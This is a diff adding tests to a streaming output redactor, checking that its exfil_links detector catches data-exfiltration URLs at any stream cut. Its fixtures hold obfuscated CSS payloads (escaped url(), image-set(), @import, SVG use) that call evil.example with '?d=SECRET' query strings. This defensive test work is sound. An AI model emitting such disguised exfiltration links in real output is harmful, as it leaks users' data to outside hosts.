@@ -477,6 +477,117 @@ test('hold points: gap boundary, placeholder cut, and the fixed hold-back as the
   assert.equal(exfil.hold('R&D &am'), 'R&D '.length);
 });
 
+test('CSS names written with escapes, image-set() strings and SVG use in small events: redacted exactly as the whole text', () => {
+  // Each text carries fetches that a stream cut in the wrong place would release: a name cut inside
+  // its escape ("u\7" + "2l(" is url(), "@\6" + "9mport"), an image-set( whose URL string comes more
+  // than the engine's left context (64) after it, a name cut inside a reference to its backslash.
+  // Events of 20 characters at every offset, and of 1 and 3; exfil_links alone (nothing else holds),
+  // and with the default policy's other detectors.
+  const texts = [
+    'Escaped: <div style="background:u\\72l(https://evil.example/e?d=SECRET)">x</div> done here now.',
+    'Escaped: <style>a{background:\\75 r\\6c (//evil.example/e?d=1)} @\\69mport "https://evil.example/i.css";</style> done.',
+    'Referenced: <div style="background:u&#92;72l(https://evil.example/r?d=SECRET)">x</div> and more words.',
+    'Set: <p style="background-image: image-set(\'images/a-rather-long-relative-path/to-the-standard-density-picture.png\' 1x, \'https://evil.example/s.png?d=SECRET\' 2x)">p</p> after.',
+    'Set: <style>.a{background:-webkit-\\69mage-set(/* a comment that is long enough to pass the left context */ "https://evil.example/w.png" 1x)}</style> end.',
+    'Sprite: <svg><use xlink:href="https://evil.example/sprite.svg#icon"/></svg> and <svg><use href="#local"/></svg> done.',
+    'Near misses: u\\73l(https://evil.example/x) and image-set() or @\\69mports "x" and <use href="#i"/> stay as they are.',
+  ];
+  const exfil = [buildDetector('exfil_links', 'exfil', {}, BUILD)];
+  // With the other detectors, their hold points land inside the markup too: a finding that spans the
+  // image-set( call from its name is stepped back over, never decided without its opener.
+  for (const detectors of [exfil, DEFAULT_DETECTORS]) {
+    const redact = redactorFor(detectors);
+    for (const text of texts) {
+      const expected = redactWhole(redact, text);
+      if (!text.startsWith('Near')) assert.ok(expected.includes('[EXFIL_LINK]') && !expected.includes('evil.example'), expected);
+      else if (detectors === exfil) assert.equal(expected, text);
+      for (const size of [20, 1, 3]) {
+        for (let offset = 0; offset < (size === 20 ? 20 : 1); offset++) {
+          const deltas = [text.slice(0, offset)];
+          for (let i = offset; i < text.length; i += size) deltas.push(text.slice(i, i + size));
+          assert.equal(stream(detectors, deltas.filter((x) => x.length > 0)).content, expected, `events of ${size} from ${offset}: ${text}`);
+        }
+      }
+    }
+  }
+});
+
+test('property: texts made of escaped CSS names, image-set() and SVG use pieces stream as they redact whole (exfil_links alone)', () => {
+  const PIECES = [
+    'u', 'U', 'r', 'l', 'L(', '(', ')', '\\', '\\72', '\\72 ', '\\7', '2', 'l(', '\\75 ', 'rl(', '\\6c', '\\6C\r\n', ' ', '\n', '\r',
+    'image-set(', 'image-', 'set(', '\\73 ', 'et(', '-webkit-', '\\69', 'mage-set(', 'IMAGE-SET(', ' 1x', ', ', 'type(', '/*', '*/', ':', ';',
+    '@', '@\\69', 'mport', 'import', '"', "'", 'https://evil.example/x', '//evil.example/y?d=1', 'https://docs.example.com/z', 'a.png', 'data:',
+    '&#92;', '&#9', '2;', '&bsol;', '&quot;', '<div style="', '">', '<style>', '</style>', '<svg><use href="', '<use xlink:href="', '#i', '"/>', 'x', 'a',
+  ];
+  const text = fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 50 }).map((xs) => xs.join(''));
+  const ds = [buildDetector('exfil_links', 'exfil', { allowed_hosts: ['docs.example.com'] }, BUILD)];
+  const redact = redactorFor(ds);
+  fc.assert(
+    fc.property(text, fc.array(fc.nat(), { maxLength: 40 }), (t, cuts) => {
+      assert.equal(stream(ds, split(t, cuts)).content, redactWhole(redact, t));
+    }),
+    { numRuns: Number(process.env.HOLD_RUNS ?? 1500) },
+  );
+});
+
+test('an image-set( whose arguments run past the hold-back, or a url( with an escaped name, is never released fetchable', () => {
+  for (const n of [3000, 20_000]) {
+    // Whitespace, a comment or a first option between the opener and the URL: the opener is cut before
+    // the URL arrives, and what follows goes out as plain text outside any image-set( or url(. The cut
+    // takes the whole name: "-webkit-image-set(" cut after "-webkit-" would leave "image-set(", and
+    // "\u\72l(" cut after '\' would leave "u\72l(" (url().
+    for (const [markup, opener, left] of [
+      [`<div style="background-image:image-set(${' '.repeat(n)}'https://evil.example/x' 1x)">x</div>`, 'image-set(', 'set('],
+      [`<style>a{background:-webkit-image-set(/* ${'c'.repeat(n)} */ "https://evil.example/x" 1x)}</style>`, '-webkit-image-set(', 'set('],
+      [`<style>a{background:\\69mage-set("a.png" 1x,${' '.repeat(n)}"https://evil.example/x" 2x)}</style>`, '\\69mage-set(', 'set('],
+      [`<div style="background:\\u\\72l(${' '.repeat(n)}https://evil.example/x)">x</div>`, '\\u\\72l(', '72l('],
+    ] as const) {
+      const text = `Intro words here. ${markup} and more words after.`;
+      const cut = text.indexOf(opener) + opener.length;
+      const deltas: string[] = [text.slice(0, cut)];
+      for (let i = cut; i < text.length; i += 20) deltas.push(text.slice(i, i + 20));
+      for (const detectors of [DEFAULT_DETECTORS, DEFAULT_DETECTORS.slice(2)]) {
+        const got = stream(detectors, deltas).content;
+        assert.ok(!got.includes(left), got.slice(0, 120));
+        const plan = holdPlan(detectors);
+        if (n < plan.maxMatchLength) {
+          // Held whole: as in the whole text.
+          assert.equal(got, redactWhole(redactorFor(detectors), text));
+          assert.ok(!got.includes('evil.example'), got.slice(0, 120));
+        } else {
+          const lags = lagPerEvent(detectors, deltas);
+          assert.ok(text.length - lags[lags.length - 1] >= n - 2 * plan.maxMatchLength, 'the stream stays within its hold-back');
+        }
+      }
+    }
+  }
+});
+
+test('hold points: escaped names, image-set( and SVG use still being written', () => {
+  const exfil = holdPlan([buildDetector('exfil_links', 'e', {}, BUILD)]);
+  const at = (w: string, held: string): void => assert.equal(exfil.hold(w), w.length - held.length, JSON.stringify(w));
+  at('a {background:u\\7', 'u\\7');
+  at('a {background:u\\72', 'u\\72'); // a third digit, or the whitespace that ends it, may follow
+  at('a {background:u\\72l', 'u\\72l');
+  at('a {background:\\75 r\\6c ', '\\75 r\\6c ');
+  at('a {background:u\\', 'u\\');
+  at('a {background:u&#92;7', 'u&#92;7');
+  at('a {background:u&#9', 'u&#9'); // the reference itself is still open
+  at('a {background:u\\72l(https://evil.example/x', 'u\\72l(https://evil.example/x');
+  at('a {background:image-se', 'image-se');
+  at('a {background:-webkit-\\69', '-webkit-\\69');
+  at('a {background:image-set("a.png" 1x, ', 'image-set("a.png" 1x, ');
+  at('a {background:image-set(/* note', 'image-set(/* note');
+  at('a b @\\6', '@\\6');
+  at('x <us', '<us');
+  // Decided: a name that no longer can be one, an image-set( closed or ended by what CSS does not read in it.
+  at('a {background:u\\73', '');
+  at('a {background:u\\72l (', '');
+  at('a {background:image-set("a.png" 1x) and more', '');
+  at('the image-set( function: takes strings and more', '');
+  at('x <user and more', '');
+});
+
 test('the fixed hold-back mode (no holdFrom) is unchanged: the same output, far more lag', () => {
   const text = prose(1500, 4) + ' mail ops.team@example.net now ' + prose(500, 9);
   const deltas = text.split(/(?<= )/);
